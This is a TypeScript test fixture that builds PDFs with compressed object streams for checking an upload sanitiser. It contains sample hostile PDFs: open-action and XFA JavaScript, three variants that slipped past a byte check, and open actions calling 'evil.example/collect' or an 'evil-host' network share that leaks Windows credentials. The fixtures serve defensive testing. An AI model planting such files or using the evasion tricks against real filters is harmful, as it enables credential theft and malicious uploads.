import { deflateSync } from 'node:zlib';

/*
 * Small PDF 1.5 files written the way modern producers write them: the document's dictionaries
 * packed into a compressed object stream, found through a cross-reference stream. They stand in
 * for what an attacker would upload (a script or an XFA form hidden where a look at the raw bytes
 * sees only deflated noise); the tests open them with pdf.js to prove a reader sees what they hide.
 */

export interface ObjectStreamPdfOptions {
  /** Extra entries of the catalog, e.g. `/OpenAction 4 0 R`. */
  catalogEntries?: string;
  /** Objects 4, 5… (dictionaries) packed into the object stream with the catalog, pages and page. */
  extraObjects?: string[];
  /** Plain (uncompressed) stream objects after the object stream: [dictionary entries, data]. */
  plainStreams?: Array<[string, string | Buffer]>;
  /** How the object stream is encoded: deflated (default), or left as it is with another filter named. */
  objectStreamFilter?: 'FlateDecode' | 'none' | 'ASCIIHexDecode';
  /** Bytes appended to the object stream's content (to make it inflate to a given size). */
  objectStreamPadding?: number;
  /** Trailer entries, e.g. an `/Encrypt` dictionary. */
  trailerEntries?: string;
  /** Extra entries of the page, e.g. `/Contents 5 0 R`. */
  pageEntries?: string;
  /** Extra entries of the page's font resources (with `text`), e.g. `/XObject << /X1 4 0 R >>`. */
  resourceEntries?: string;
  /** Text drawn on the page (Helvetica, from a plain content stream), so a test can see the page survive. */
  text?: string;
  /** Entries written into the object stream's dictionary right after `/First`, e.g. `/Note (see 1 0 obj)`. */
  objectStreamEntries?: string;
  /** What comes between the object stream's dictionary and its `stream` keyword (default a line end). */
  beforeObjectStreamKeyword?: string;
  /** What ends the object stream's `stream` keyword line (default `\n`). */
  objectStreamKeywordEnd?: string;
}

/** A content stream drawing `text` with the font named /F1. */
const textContent = (text: string) => `BT /F1 18 Tf 20 150 Td (${text.replace(/[()\\]/g, (c) => `\\${c}`)}) Tj ET`;

/** A one-page PDF whose catalog, pages, page and `extraObjects` live in one object stream. */
export function objectStreamPdf(options: ObjectStreamPdfOptions = {}): Buffer {
  const extraObjects = options.extraObjects ?? [];
  // With text: the font is the last object packed, the content stream the first plain stream.
  const fontNumber = 4 + extraObjects.length;
  const objectStreamNumber = fontNumber + (options.text === undefined ? 0 : 1);
  const textEntries =
    options.text === undefined
      ? ''
      : `/Resources << ${options.resourceEntries ?? ''} /Font << /F1 ${fontNumber} 0 R >> >> /Contents ${objectStreamNumber + 1} 0 R `;
  const packed = [
    `<< /Type /Catalog /Pages 2 0 R ${options.catalogEntries ?? ''}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${textEntries}${options.pageEntries ?? ''}>>`,
    ...extraObjects,
    ...(options.text === undefined ? [] : ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>']),
  ];
  const plainStreams: Array<[string, string | Buffer]> = [
    ...(options.text === undefined ? [] : [['', textContent(options.text)] as [string, string]]),
    ...(options.plainStreams ?? []),
  ];
  const bodies = packed.map((body) => `${body}\n`);
  let offset = 0;
  const index = bodies.map((body, position) => {
    const entry = `${position + 1} ${offset}`;
    offset += Buffer.byteLength(body, 'latin1');
    return entry;
  });
  const header = `${index.join(' ')}\n`;
  const content = Buffer.concat([Buffer.from(header + bodies.join(''), 'latin1'), Buffer.alloc(options.objectStreamPadding ?? 0, 0x20)]);
  const filter = options.objectStreamFilter ?? 'FlateDecode';
  const data =
    filter === 'FlateDecode'
      ? deflateSync(content)
      : filter === 'ASCIIHexDecode'
        ? Buffer.from(`${content.toString('hex')}>`, 'latin1')
        : content;
  const filterEntry = filter === 'none' ? '' : `/Filter /${filter} `;

  const parts: Buffer[] = [Buffer.from('%PDF-1.5\n%\xE2\xE3\xCF\xD3\n', 'latin1')];
  const offsets = new Map<number, number>();
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  const writeStream = (number: number, dictionary: string, bytes: Buffer, beforeKeyword = '\n', keywordEnd = '\n') => {
    offsets.set(number, length());
    parts.push(
      Buffer.from(`${number} 0 obj\n<< ${dictionary}/Length ${bytes.length} >>${beforeKeyword}stream${keywordEnd}`, 'latin1'),
      bytes,
      Buffer.from('\nendstream\nendobj\n', 'latin1'),
    );
  };
  writeStream(
    objectStreamNumber,
    `/Type /ObjStm /N ${packed.length} /First ${Buffer.byteLength(header, 'latin1')} ${options.objectStreamEntries ?? ''} ${filterEntry}`,
    data,
    options.beforeObjectStreamKeyword,
    options.objectStreamKeywordEnd,
  );
  let next = objectStreamNumber + 1;
  for (const [dictionary, streamData] of plainStreams) {
    writeStream(next, `${dictionary} `, Buffer.isBuffer(streamData) ? streamData : Buffer.from(streamData, 'latin1'));
    next += 1;
  }

  // The cross-reference stream: type 2 entries (object stream number, index) for the packed objects.
  const xrefNumber = next;
  const size = xrefNumber + 1;
  const rows: number[][] = [[0, 0, 65535]];
  packed.forEach((_, position) => rows.push([2, objectStreamNumber, position]));
  for (let number = objectStreamNumber; number < xrefNumber; number += 1) rows.push([1, offsets.get(number) ?? 0, 0]);
  const xrefOffset = length();
  rows.push([1, xrefOffset, 0]);
  const table = Buffer.alloc(rows.length * 7);
  rows.forEach(([type = 0, field2 = 0, field3 = 0], row) => {
    table.writeUInt8(type, row * 7);
    table.writeUInt32BE(field2, row * 7 + 1);
    table.writeUInt16BE(field3, row * 7 + 5);
  });
  const xrefData = deflateSync(table);
  parts.push(
    Buffer.from(
      `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R ${options.trailerEntries ?? ''}/Filter /FlateDecode /Length ${xrefData.length} >>\nstream\n`,
      'latin1',
    ),
    xrefData,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'),
  );
  return Buffer.concat(parts);
}

/** Opens a script when the document opens: `/OpenAction` to a JavaScript action, both in the object stream. */
export const scriptInObjectStream = () =>
  objectStreamPdf({ catalogEntries: '/OpenAction 4 0 R ', extraObjects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'] });

/** An XFA form whose template carries a `<script>`: the AcroForm dictionary in the object stream, the XML beside it. */
export const xfaScriptInObjectStream = () =>
  objectStreamPdf({
    catalogEntries: '/AcroForm 4 0 R ',
    extraObjects: ['<< /Fields [] /XFA 6 0 R >>'],
    plainStreams: [
      [
        '',
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>',
      ],
    ],
  });

/** Runs a script when the document opens, from an object stream the issue-15 byte check did not read (issue 30). */
const openActionScript = (options: ObjectStreamPdfOptions) =>
  objectStreamPdf({
    catalogEntries: '/OpenAction 4 0 R ',
    extraObjects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'],
    text: 'Receipt 30',
    ...options,
  });

/**
 * The five PDFs of issue 30 that passed the byte check and were stored and mailed as they came:
 * three object-stream variants carrying an `/OpenAction` script, and open actions that leave the
 * document (a web address, a file on a network share).
 */
export const ISSUE_30_ACTIVE_PDFS = {
  /** A string in the object stream's dictionary that looks like an object header. */
  'note that looks like an object header': () => openActionScript({ objectStreamEntries: '/Note (see 1 0 obj)' }),
  /** A comment line that looks like an object header, between the dictionary and `stream`. */
  'comment line before stream': () => openActionScript({ beforeObjectStreamKeyword: '\n% 9 0 obj\n' }),
  /** `stream` followed by a space before the line end (CR LF: pdf-lib reads it; with a bare LF it cannot, and refuses). */
  'space after the stream keyword': () => openActionScript({ objectStreamKeywordEnd: ' \r\n' }),
  /** Opening the document opens a web address. */
  'URI open action': () =>
    objectStreamPdf({ catalogEntries: '/OpenAction << /S /URI /URI (https://evil.example/collect) >> ', text: 'Receipt 30' }),
  /** Opening the document fetches a file from a network share (and hands it the staff member's Windows credentials). */
  'GoToR open action to a network share': () =>
    objectStreamPdf({
      catalogEntries: '/OpenAction << /S /GoToR /F (\\\\\\\\evil-host\\\\share\\\\x.pdf) /D [0 /Fit] /NewWindow true >> ',
      text: 'Receipt 30',
    }),
} as const;
